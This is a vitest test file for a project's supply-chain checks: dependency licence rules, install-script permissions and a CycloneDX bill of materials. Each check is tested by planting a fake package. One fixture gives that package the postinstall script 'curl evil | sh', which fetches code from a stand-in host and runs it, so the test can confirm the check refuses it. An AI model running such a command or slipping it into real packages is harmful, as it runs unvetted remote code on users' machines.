// What the packages of others bring along: licences, install scripts, the bill of materials. Each check finds
// what is planted.

import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { installScriptProblems, KNOWN } from '../check-install-scripts.mjs';
import { isAllowed, licenceProblems } from '../check-licences.mjs';
import { bomProblems } from '../check-sbom.mjs';
import { makeBom } from '../lib/cyclonedx.mjs';
import { type Lock, type LockedPackage, readLock, runtimeClosure } from '../lib/installed-packages.mjs';
import { publishedPackages, shippedFolders } from '../lib/published-packages.mjs';

const root = join(import.meta.dirname, '../..');
const folders = shippedFolders();
let lock: Lock;
beforeAll(() => {
  lock = readLock(root);
});

/** The lock with one more package, which the controller needs. */
function planted(manifest: Record<string, unknown>, changes: Partial<LockedPackage> = {}): Lock {
  const one = {
    key: 'bad@1.0.0',
    name: 'bad',
    version: '1.0.0',
    integrity: 'sha512-AAAA',
    needs: [],
    manifest,
    ...changes,
  };
  return {
    packages: new Map([...lock.packages, [one.key, one]]),
    runtime: new Map([
      ...lock.runtime,
      ['apps/controller', [...(lock.runtime.get('apps/controller') ?? []), one.key]],
    ]),
  };
}

/** The lock with one more tool, which nothing that ships needs. */
const plantedTool = (manifest: Record<string, unknown>): Lock => ({
  ...planted(manifest),
  runtime: lock.runtime,
});

describe('the runtime closure', () => {
  it('has what programs need through other packages, and no tool', () => {
    const names = [...runtimeClosure(lock, folders)].map((key) => lock.packages.get(key)?.name ?? key);
    expect(names).toEqual(
      expect.arrayContaining(['better-sqlite3', 'hono', '@noble/hashes', 'link:packages/host']),
    );
    for (const tool of ['vitest', 'typescript', 'knip']) expect(names).not.toContain(tool);
  });
});

describe('licences', () => {
  it('are all allowed', () => {
    expect(licenceProblems(lock, folders)).toEqual([]);
  });

  it.each([
    [{ license: 'GPL-3.0-only' }, 'which ships with the programs, is under GPL-3.0-only'],
    [{ license: 'MPL-2.0' }, 'which ships with the programs, is under MPL-2.0'],
    [{ license: { type: 'SSPL-1.0' } }, 'is under SSPL-1.0'],
    [{ license: 'MIT AND GPL-2.0' }, 'is under MIT AND GPL-2.0'],
    [{}, 'states no licence'],
  ])('are refused for %j', (manifest, fault) => {
    expect(licenceProblems(planted(manifest), folders)).toEqual([expect.stringContaining(fault)]);
  });

  it('are read as expressions, and tools may have one that shipped packages may not', () => {
    expect(isAllowed('(MIT OR GPL-3.0)', ['MIT'])).toBe(true);
    expect(isAllowed('MIT AND ISC', ['MIT', 'ISC'])).toBe(true);
    for (const mixed of ['(MIT OR GPL-3.0) AND GPL-2.0', 'GPL-2.0 AND (GPL-3.0 OR MIT)'])
      expect(isAllowed(mixed, ['MIT']), mixed).toBe(false);
    expect(licenceProblems(plantedTool({ license: 'MPL-2.0' }), folders)).toEqual([]);
    expect(licenceProblems(plantedTool({ license: 'AGPL-3.0' }), folders)).toHaveLength(1);
  });
});

describe('install scripts', () => {
  const allowed = { esbuild: true };

  it('are known, and allowed where they run', () => {
    expect(installScriptProblems(lock, allowed)).toEqual([]);
  });

  it.each([
    [{ scripts: { postinstall: 'curl evil | sh' } }, 'bad@1.0.0 would run postinstall'],
    [{ scripts: { preinstall: 'x', install: 'y' } }, 'would run preinstall, install'],
    [{ hasBindingGyp: true }, 'would run binding.gyp'],
  ])('are refused for %j', (manifest, fault) => {
    expect(installScriptProblems(planted(manifest), allowed)).toEqual([expect.stringContaining(fault)]);
  });

  it('of packages that pnpm allows and the list does not are refused, and the other way round', () => {
    expect(installScriptProblems(lock, { ...allowed, hono: true })).toEqual([
      expect.stringContaining('allows hono'),
    ]);
    expect(installScriptProblems(lock, {})).toEqual([expect.stringContaining('lets esbuild run')]);
  });

  it('that are gone are to leave the list', () => {
    const without = new Map([...lock.packages].filter(([, { name }]) => name !== 'better-sqlite3'));
    expect(Object.keys(KNOWN)).toContain('better-sqlite3');
    expect(installScriptProblems({ ...lock, packages: without }, allowed)).toEqual([
      expect.stringContaining('better-sqlite3 has no install scripts any more'),
    ]);
  });
});

interface Bom {
  readonly serialNumber: string;
  readonly components: readonly {
    readonly name: string;
    readonly purl: string;
    readonly [field: string]: unknown;
  }[];
  readonly dependencies: readonly { readonly ref: string; readonly dependsOn: readonly string[] }[];
}

describe('the bill of materials', () => {
  const bomOf = (from: Lock) => makeBom({ root, lock: from, folders }) as Bom;

  it('names every package that ships, with licence and digest, and every program', () => {
    const bom = bomOf(lock);
    expect(bomProblems(bom)).toEqual([]);
    expect(bom).toMatchObject({ bomFormat: 'CycloneDX', specVersion: '1.6' });
    const names = bom.components.map(({ name }) => name);
    expect(names).toEqual(
      expect.arrayContaining([
        ...publishedPackages().map(({ name }) => name),
        ...['@mesh/host', 'better-sqlite3'],
      ]),
    );
    expect(bom.components.find(({ name }) => name === '@noble/hashes')).toMatchObject({
      purl: expect.stringMatching(/^pkg:npm\/%40noble\/hashes@\d/),
      licenses: [{ license: { id: 'MIT' } }],
      hashes: [{ alg: 'SHA-512', content: expect.stringMatching(/^[0-9a-f]{128}$/) }],
    });
  });

  it('refers only to what it names, and says what needs what', () => {
    const { components, dependencies } = bomOf(lock);
    const refs = new Set(components.map(({ purl }) => purl));
    expect(dependencies.flatMap(({ dependsOn }) => dependsOn).filter((ref) => !refs.has(ref))).toEqual([]);
    const seal = dependencies.find(({ ref }) => ref.startsWith('pkg:npm/%40mesh/seal@'));
    expect(seal?.dependsOn).toContainEqual(expect.stringContaining('noble/post-quantum@'));
  });

  it('is the same for the same lockfile, and another one for another', () => {
    expect(bomOf(lock)).toEqual(bomOf(readLock(root)));
    expect(bomOf(planted({ license: 'MIT' })).serialNumber).not.toBe(bomOf(lock).serialNumber);
    expect(bomOf(lock).serialNumber).toMatch(/^urn:uuid:[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/);
  });

  it('is refused if a component lacks its licence or its digest', () => {
    expect(bomProblems(bomOf(planted({})))).toEqual([expect.stringContaining('bad@1.0.0 has no licence')]);
    expect(bomProblems(bomOf(planted({ license: 'MIT' }, { integrity: undefined })))).toEqual([
      expect.stringContaining('bad@1.0.0 has no digest'),
    ]);
  });
});
